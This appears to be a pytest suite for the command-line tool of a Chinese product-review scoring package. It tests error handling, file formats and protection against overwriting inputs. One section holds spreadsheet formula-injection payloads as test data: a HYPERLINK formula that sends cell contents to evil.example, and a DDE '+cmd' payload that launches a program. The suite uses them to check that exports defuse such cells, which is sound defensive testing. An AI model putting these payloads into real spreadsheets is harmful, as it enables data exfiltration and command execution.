"""CLI exit codes and messages (typer's CliRunner); no traceback reaches the user."""

from __future__ import annotations

import os
import re
import sys
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from koubei.cli import app

runner = CliRunner()

ROWS = [
    ("送得很快，但是味道太淡了，分量也少", "2026-11-02 10:00:00", "原味瓜子", "乙食品厂"),
    ("这次的瓜子太咸了", "2026-11-03 11:00:00", "原味瓜子", "甲食品厂"),
    ("包装破了，撒了一袋子", "2026-11-04 12:00:00", "蜂蜜黄油薯片", "丙农产"),
    ("", "2026-11-05 12:00:00", "芒果干", "丁食品"),
    ("很好吃，会回购", "3天前", "芒果干", "丁食品"),
]


def write_dump(path: Path, encoding: str = "utf-8") -> Path:
    df = pd.DataFrame(ROWS, columns=["评论内容", "评论时间", "商品", "供应商"])
    df.to_csv(path, index=False, encoding=encoding)
    return path


def invoke(*args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, [str(a) for a in args])


def test_score_csv_with_detected_chinese_headers(tmp_path: Path) -> None:
    src = write_dump(tmp_path / "reviews.csv")
    out = tmp_path / "scored.parquet"
    res = invoke("score", src, "-o", out, "--quiet", "--now", "2026-11-10 12:00")
    assert res.exit_code == 0, res.output
    assert "wrote" in res.output and "rows: 5" in res.output
    assert "empty 1" in res.output
    df = pd.read_parquet(out)
    assert len(df) == 5
    assert {"评论内容", "text", "time", "product", "supplier", "review_id", "status", "flags",
            "sentiment", "topic_taste", "topics", "dimensions", "taste_detail", "opinions",
            "is_complaint"} <= set(df.columns)
    assert df.loc[0, "taste_detail"] == "too_bland"
    assert df.loc[1, "taste_detail"] == "too_salty"
    assert str(df.loc[4, "time"].date()) == "2026-11-07"


def test_score_default_output_and_csv_format(tmp_path: Path) -> None:
    src = write_dump(tmp_path / "reviews.csv")
    res = invoke("score", src, "-q")
    assert res.exit_code == 0, res.output
    assert (tmp_path / "reviews.scored.parquet").is_file()
    res = invoke("score", src, "-o", tmp_path / "out.txt", "--format", "csv", "-q")
    assert res.exit_code == 0, res.output
    assert (tmp_path / "out.txt").read_bytes().startswith(b"\xef\xbb\xbf")


def test_existing_output_is_refused_unless_overwrite(tmp_path: Path) -> None:
    src = write_dump(tmp_path / "reviews.csv")
    out = tmp_path / "scored.csv"
    out.write_text("keep me", encoding="utf-8")
    res = invoke("score", src, "-o", out, "-q")
    assert res.exit_code == 3
    assert "exists; pass --overwrite" in res.output
    assert out.read_text(encoding="utf-8") == "keep me"
    assert invoke("score", src, "-o", out, "-q", "--overwrite").exit_code == 0


@pytest.mark.parametrize(
    ("make", "args", "code", "pattern"),
    [
        (lambda p: p / "missing.csv", (), 2, r"missing\.csv"),
        (lambda p: (p / "r.docx").write_text("x") and p / "r.docx", (), 2, r"--format|format"),
        (lambda p: (p / "e.csv").write_bytes(b"") or p / "e.csv", (), 2, r"no rows|empty"),
        (lambda p: write_dump(p / "g.csv", "gb18030"), ("--encoding", "utf-8"), 2, r"gb18030"),
        (lambda p: (p / "amb.csv").write_text("评论,内容\n好吃,好吃\n", encoding="utf-8") and p / "amb.csv",
         (), 2, r"--text-col"),
        (lambda p: write_dump(p / "r.csv"), ("--text-col", "正文"), 2, r"评论内容"),
        (lambda p: (p / "rag.csv").write_text("评论内容,商品\n好吃,瓜子\n太咸,瓜子,多余\n", encoding="utf-8")
         and p / "rag.csv", (), 2, r"line 3"),
        (lambda p: write_dump(p / "r.csv"), ("-o", "nodir/x.parquet"), 3, r"does not exist"),
        (lambda p: write_dump(p / "r.csv"), ("--model", "no-such-model"), 5, r"model directory not found"),
        (lambda p: write_dump(p / "r.csv"), ("-o", "x.xyz"), 3, r"--format"),
    ],
)
def test_bad_input_gets_one_clear_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make, args,
                                       code: int, pattern: str) -> None:
    monkeypatch.chdir(tmp_path)
    src = make(tmp_path)
    res = invoke("score", src, "-q", *args)
    assert res.exit_code == code, res.output
    assert re.search(pattern, res.output), res.output
    assert "Traceback" not in res.output
    assert res.output.startswith("error: ")


def test_gbk_dump_is_detected(tmp_path: Path) -> None:
    src = write_dump(tmp_path / "g.csv", "gbk")
    out = tmp_path / "o.jsonl"
    res = invoke("score", src, "-o", out)
    assert res.exit_code == 0, res.output
    assert "gb18030" in res.output
    assert "太咸" in out.read_text(encoding="utf-8")


@pytest.mark.slow
def test_demo_tells_the_story_end_to_end(tmp_path: Path) -> None:
    res = invoke("demo", "-o", tmp_path / "d", "-q")
    assert res.exit_code == 0, res.output
    df = pd.read_parquet(tmp_path / "d" / "scored.parquet")
    assert len(df) > 2000 and df["supplier"].nunique() >= 3
    assert (df["status"] != "ok").sum() > 0  # junk rows kept, not dropped
    assert "scored demo dump written to" in res.output
    # the planted wave: found, traced to the batch, and the week's first issue; the generator's
    # 双11 delivery backlog (background, corpora/demo/README.md) may come next, near the default q
    issues = pd.read_csv(tmp_path / "d" / "issues.csv", encoding="utf-8-sig", keep_default_na=False)
    rows = issues[["topic", "direction", "cell_label", "status"]].values.tolist()
    assert rows[0] == ["taste", "too_bland", "乙食品厂 / 原味瓜子", "new"]
    assert all(r[0] == "delivery_logistics" for r in rows[1:]) and len(rows) <= 2
    assert "来自批次 B2611-02" in res.output and "[new]" in res.output
    assert "for the product team:" in res.output
    exported = pd.read_excel(tmp_path / "d" / "issues.xlsx", sheet_name=None)
    assert len(next(iter(exported.values()))) == len(issues)  # the issue sheet: one row an issue
    html = (tmp_path / "d" / "report.html").read_text(encoding="utf-8")
    assert issues.loc[0, "issue_id"] in html and 'id="chart-heatmap"' in html
    summary = pd.read_excel(tmp_path / "d" / "summary.xlsx")
    assert {"supplier", "product", "window", "taste_too_bland"} <= set(summary.columns)
    again = invoke("demo", "-o", tmp_path / "d", "-q")  # re-runnable, the history unchanged
    assert again.exit_code == 0 and "[new]" in again.output


def test_help_for_every_command() -> None:
    res = invoke("--help")
    assert res.exit_code == 0
    for cmd in ("score", "demo", "aggregate", "emerging", "issues"):
        assert cmd in res.output
        sub = invoke(cmd, "--help")
        assert sub.exit_code == 0 and len(sub.output) > 100


def test_demo_folder_that_cannot_be_created(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    res = invoke("demo", "-o", blocker / "sub", "-q")
    assert res.exit_code == 3
    assert "cannot create demo folder" in res.output


def test_excel_in_excel_out_with_sheet_and_explicit_columns(tmp_path: Path) -> None:
    src = tmp_path / "reviews.xlsx"
    df = pd.DataFrame(ROWS, columns=["评论", "日期", "品", "厂"])
    with pd.ExcelWriter(src) as xl:
        pd.DataFrame({"说明": ["导出说明"]}).to_excel(xl, sheet_name="readme", index=False)
        df.to_excel(xl, sheet_name="data", index=False)
    out = tmp_path / "scored.xlsx"
    res = invoke("score", src, "--sheet", "data", "--text-col", "评论", "--time-col", "日期",
                 "--product-col", "品", "--supplier-col", "厂", "-o", out, "-q", "--now", "2026-11-10")
    assert res.exit_code == 0, res.output
    back = pd.read_excel(out)
    assert len(back) == len(ROWS)
    assert back.loc[1, "taste_detail"] == "too_salty"
    assert back.loc[2, "supplier"] == "丙农产"


def test_input_format_override(tmp_path: Path) -> None:
    src = tmp_path / "dump.txt"
    src.write_text('{"review": "包装破了，汤洒了一袋子"}\n{"review": "送餐太慢，等了两个小时"}\n',
                   encoding="utf-8")
    out = tmp_path / "o.parquet"
    res = invoke("score", src, "--input-format", "jsonl", "-o", out, "-q")
    assert res.exit_code == 0, res.output
    got = pd.read_parquet(out)
    assert got["topic_packaging"].tolist()[0] == "neg"
    assert got["topic_delivery_logistics"].tolist()[1] == "neg"


def test_stray_quote_is_refused_and_quoting_none_reads_every_row(tmp_path: Path) -> None:
    src = write_dump(tmp_path / "stray.csv")
    lines = src.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[2] = '"' + lines[2]  # the second review starts with a stray quote
    src.write_text("".join(lines), encoding="utf-8")
    out = tmp_path / "o.csv"
    res = invoke("score", src, "-o", out, "-q")
    assert res.exit_code == 2, res.output
    assert res.output.startswith("error: ") and "stray.csv: line 3: a quoted field opens here" in res.output
    assert "--quoting none" in res.output and not out.exists()
    res = invoke("score", src, "-o", out, "-q", "--quoting", "none")
    assert res.exit_code == 0, res.output
    assert "rows: 5" in res.output


def test_headerless_dump_is_refused_and_read_with_no_header(tmp_path: Path) -> None:
    src = tmp_path / "nohead.csv"
    pd.DataFrame(ROWS).to_csv(src, index=False, header=False)
    res = invoke("score", src, "-o", tmp_path / "o.csv", "-q")
    assert res.exit_code == 2 and "first row looks like a review" in res.output
    assert "--no-header" in res.output
    res = invoke("score", src, "-o", tmp_path / "o.csv", "-q", "--no-header", "--time-col", "2")
    assert res.exit_code == 0, res.output
    assert "rows: 5" in res.output


READING_OPTIONS = {"--text-col", "--id-col", "--time-col", "--product-col", "--supplier-col", "--batch-col",
                   "--rating-col", "--channel-col", "--input-format", "--encoding", "--sheet", "--quoting",
                   "--no-header"}


@pytest.mark.parametrize("command", ["score", "suggest", "train", "evaluate"])
def test_every_command_reading_reviews_takes_the_same_reading_options(command: str) -> None:
    import typer.main

    cmd = typer.main.get_command(app).commands[command]  # type: ignore[attr-defined]
    opts = {o for p in cmd.params for o in p.opts}
    assert opts >= READING_OPTIONS, READING_OPTIONS - opts
    helps = {p.opts[0]: p.help for p in cmd.params if p.opts[0] in READING_OPTIONS}
    assert all(helps.values())
    # one wording per option on every command
    score = typer.main.get_command(app).commands["score"]  # type: ignore[attr-defined]
    assert helps == {p.opts[0]: p.help for p in score.params if p.opts[0] in READING_OPTIONS}


def test_format_choices_are_the_formats_the_library_reads_and_writes() -> None:
    from koubei.cli._options import InputFormat, TableFormat
    from koubei.cli.export import ExportFormat
    from koubei.export import EXPORT_FORMATS
    from koubei.io.formats import FORMATS
    from koubei.io.writers import WRITE_FORMATS

    assert {f.value for f in TableFormat} == set(WRITE_FORMATS)
    assert {f.value for f in InputFormat} == set(FORMATS)
    assert {f.value for f in ExportFormat} == set(EXPORT_FORMATS)
    res = invoke("score", "x.csv", "--format", "pdf")
    assert res.exit_code == 2 and "parquet" in res.output  # the choices are named


def test_suggest_maps_an_id_column_of_a_gbk_workbook_export(tmp_path: Path) -> None:
    """suggest --id-col was an error; it now reads the same options as score."""
    src = tmp_path / "gbk.csv"
    df = pd.DataFrame(ROWS, columns=["评论内容", "评论时间", "商品", "供应商"])
    df.insert(0, "单号", [f"D{i:03d}" for i in range(len(df))])
    df.to_csv(src, index=False, encoding="gb18030")
    out = tmp_path / "pick.csv"
    res = invoke("suggest", src, "-n", "3", "-o", out, "--id-col", "单号", "--encoding", "gb18030")
    assert res.exit_code == 0, res.output
    picked = pd.read_csv(out, dtype=str)
    assert set(picked["review_id"]) <= {f"D{i:03d}" for i in range(len(df))} and len(picked) == 3


def test_demo_still_reads_its_old_folder_option(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    res = invoke("demo", "--out-dir", blocker / "sub", "-q")  # the folder it names is the one it tries
    assert res.exit_code == 3 and "cannot create demo folder" in res.output and "file" in res.output


def test_suggest_reads_a_headerless_dump(tmp_path: Path) -> None:
    src = tmp_path / "nohead.csv"
    pd.DataFrame(ROWS).to_csv(src, index=False, header=False)
    out = tmp_path / "pick.csv"
    assert invoke("suggest", src, "-n", "2", "-o", out).exit_code == 2
    res = invoke("suggest", src, "-n", "2", "-o", out, "--no-header")
    assert res.exit_code == 0, res.output
    assert out.is_file()


# -- an output that is one of the inputs is refused, --overwrite or not -----------------------------


def _same_file_cases(tmp: Path) -> list[tuple[list[object], Path]]:
    """(command line, the input it would destroy) for every command that reads and writes files."""
    dump = write_dump(tmp / "reviews.csv")
    scored = tmp / "scored.parquet"
    pd.DataFrame({"text": [r[0] for r in ROWS], "supplier": [r[3] for r in ROWS]}).to_parquet(scored)
    store = tmp / "koubei.duckdb"
    store.write_bytes(b"not opened: refused before any work")
    ids_named_store = tmp / "issues.review_ids.csv"
    ids_named_store.write_bytes(b"not opened either")
    folder = tmp / "bundle"
    folder.mkdir()
    labels = write_dump(folder / "labels.csv")
    link = tmp / "hardlink.parquet"
    link.hardlink_to(scored)
    return [
        (["score", dump, "-o", dump, "--format", "csv"], dump),
        (["score", dump, "-o", tmp / "sub" / ".." / "reviews.csv", "--format", "csv"], dump),
        (["score", dump, "-o", tmp, "--engine", "dask"], dump),
        (["aggregate", scored, "-o", scored], scored),
        (["aggregate", scored, "-o", link], scored),
        (["emerging", scored, "-o", scored], scored),
        (["emerging", scored, "-o", store, "--store", store, "--format", "csv"], store),
        (["report", scored, "-o", scored], scored),
        (["report", scored, "-o", store, "--store", store], store),
        (["export", "--store", store, "-o", store, "--format", "xlsx"], store),
        (["export", "--store", ids_named_store, "-o", tmp / "issues.csv"], ids_named_store),
        (["suggest", dump, "-o", dump], dump),
        (["suggest", dump, "--label-studio", dump], dump),
        (["train", labels, "-o", folder], labels),
        (["evaluate", labels, "--model", folder, "-o", labels], labels),
    ]


@pytest.mark.parametrize("overwrite", [False, True])
def test_an_output_that_is_an_input_is_refused(tmp_path: Path, overwrite: bool) -> None:
    for args, victim in _same_file_cases(tmp_path):
        before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
        replace = ["--overwrite"] if overwrite and args[0] != "evaluate" else []  # evaluate always replaces
        res = invoke(*args, *replace)
        assert res.exit_code == 3, (args, res.output)
        line = res.output.strip()
        assert line.startswith("error: ") and "\n" not in line, line
        assert ("input" in line and str(victim) in line) or "two outputs" in line, line
        assert "pass another output" in line or "outside it" in line or "for one of them" in line, line
        assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before, args


# -- formula-like text reaches no CSV, TSV or xlsx cell as a formula ------------------------------

HOSTILE = [
    ("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我领券\") 瓜子太咸了", "原味瓜子", "+cmd|' /C calc'!A0"),
    ("@SUM(1+1) 包装破了，撒了一袋子", "-2+3 蜂蜜薯片", "乙食品厂"),
    ("很好吃，会回购", "芒果干", "＝丁食品"),
]


def write_hostile_dump(path: Path) -> Path:
    df = pd.DataFrame(HOSTILE, columns=["评论内容", "商品", "供应商"]).assign(**{"=备注": "=1+1"})
    df.to_csv(path, index=False, encoding="utf-8")
    return path


def csv_cells(path: Path, sep: str = ",") -> list[list[str]]:
    import csv

    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=sep))


def formula_like(cells: list[list[str]]) -> list[str]:
    """Text cells a spreadsheet would run (numbers such as -1.0 are numbers, not text)."""
    from koubei.io.cells import FORMULA_STARTS

    def number(c: str) -> bool:
        try:
            float(c)
        except ValueError:
            return False
        return True

    return [c for row in cells for c in row if c.startswith(FORMULA_STARTS) and not number(c)]


@pytest.mark.parametrize(("suffix", "chunks"), [(".csv", "1000"), (".csv", "0"), (".tsv", "1000")])
def test_score_csv_and_tsv_cells_are_defused_unless_raw(tmp_path: Path, suffix: str, chunks: str) -> None:
    src = write_hostile_dump(tmp_path / "reviews.csv")
    sep = "\t" if suffix == ".tsv" else ","
    out = tmp_path / f"scored{suffix}"
    res = invoke("score", src, "-o", out, "-q", "--chunksize", chunks, "--workers", "1")
    assert res.exit_code == 0, res.output
    cells = csv_cells(out, sep)
    assert formula_like(cells) == []
    flat = [c for row in cells for c in row]
    assert "'=备注" in cells[0] and "'+cmd|' /C calc'!A0" in flat and "'＝丁食品" in flat
    assert any(c.startswith("'=HYPERLINK(") and c.endswith("瓜子太咸了") for c in flat)
    raw = tmp_path / f"raw{suffix}"
    res = invoke("score", src, "-o", raw, "-q", "--chunksize", chunks, "--workers", "1", "--raw")
    assert res.exit_code == 0, res.output
    assert "+cmd|' /C calc'!A0" in [c for row in csv_cells(raw, sep) for c in row]
    assert len(formula_like(csv_cells(raw, sep))) >= 6


def test_aggregate_csv_first_column_is_defused(tmp_path: Path) -> None:
    src = write_hostile_dump(tmp_path / "reviews.csv")
    scored = tmp_path / "scored.parquet"
    assert invoke("score", src, "-o", scored, "-q", "--workers", "1").exit_code == 0
    out = tmp_path / "summary.csv"
    res = invoke("aggregate", scored, "-o", out, "--by", "supplier", "-q")
    assert res.exit_code == 0, res.output
    cells = csv_cells(out)
    assert formula_like(cells) == [] and "'+cmd|' /C calc'!A0" in [r[0] for r in cells]
    raw = tmp_path / "raw.csv"
    assert invoke("aggregate", scored, "-o", raw, "--by", "supplier", "-q", "--raw").exit_code == 0
    assert "+cmd|' /C calc'!A0" in [r[0] for r in csv_cells(raw)]


def test_score_xlsx_keeps_formula_like_text_as_quote_prefixed_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    src = write_hostile_dump(tmp_path / "reviews.csv")
    out = tmp_path / "scored.xlsx"
    res = invoke("score", src, "-o", out, "-q", "--workers", "1")
    assert res.exit_code == 0, res.output
    ws = load_workbook(out).active
    hostile = [c for row in ws.iter_rows() for c in row
               if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "＝"))]
    assert {"=备注", "=1+1", "+cmd|' /C calc'!A0", "＝丁食品", "-2+3 蜂蜜薯片"} <= {c.value for c in hostile}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile), [
        (c.coordinate, c.value, c.data_type, c.quotePrefix) for c in hostile if not c.quotePrefix]


def test_xlsx_text_over_an_excel_cell_is_cut_with_a_warning(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    long_review = "这次的瓜子太咸了，" * 4000  # 36,000 characters
    src = tmp_path / "reviews.csv"
    pd.DataFrame({"评论内容": [long_review, "很好吃，会回购"]}).to_csv(src, index=False)
    out = tmp_path / "scored.xlsx"
    res = invoke("score", src, "-o", out, "-q", "--workers", "1")
    assert res.exit_code == 0, res.output
    warning = next(line for line in res.output.splitlines() if line.startswith("warning:"))
    assert str(out) in warning and "2 cells" in warning and "32,767" in warning
    assert "评论内容 1" in warning and "text 1" in warning and ".parquet or .csv" in warning
    ws = load_workbook(out).active
    assert len(ws["A2"].value) == 32_767
    csv_out = tmp_path / "scored.csv"
    res = invoke("score", src, "-o", csv_out, "-q", "--workers", "1")
    assert res.exit_code == 0 and "warning" not in res.output
    assert pd.read_csv(csv_out, encoding="utf-8-sig")["评论内容"].str.len().max() == len(long_review)


def test_a_command_puts_back_the_callers_sigterm_handler(tmp_path: Path) -> None:
    import signal

    def mine(signum: int, frame: object) -> None:
        pass

    previous = signal.signal(signal.SIGTERM, mine)
    try:
        invoke("score", tmp_path / "missing.csv", "-o", tmp_path / "o.csv")  # fails fast: no such file
        assert signal.getsignal(signal.SIGTERM) is mine
    finally:
        signal.signal(signal.SIGTERM, previous)


@pytest.mark.parametrize(("given", "kept"), [(None, "4"), ("30", "30")])
def test_main_lets_openblas_threads_sleep_unless_the_user_chose(
        monkeypatch: pytest.MonkeyPatch, given: str | None, kept: str) -> None:
    from koubei.cli import main

    if given is None:
        monkeypatch.delenv("OPENBLAS_THREAD_TIMEOUT", raising=False)
    else:
        monkeypatch.setenv("OPENBLAS_THREAD_TIMEOUT", given)
    monkeypatch.setattr(sys, "argv", ["koubei", "--version"])
    with pytest.raises(SystemExit) as exit_:
        main()
    assert exit_.value.code == 0
    assert os.environ["OPENBLAS_THREAD_TIMEOUT"] == kept
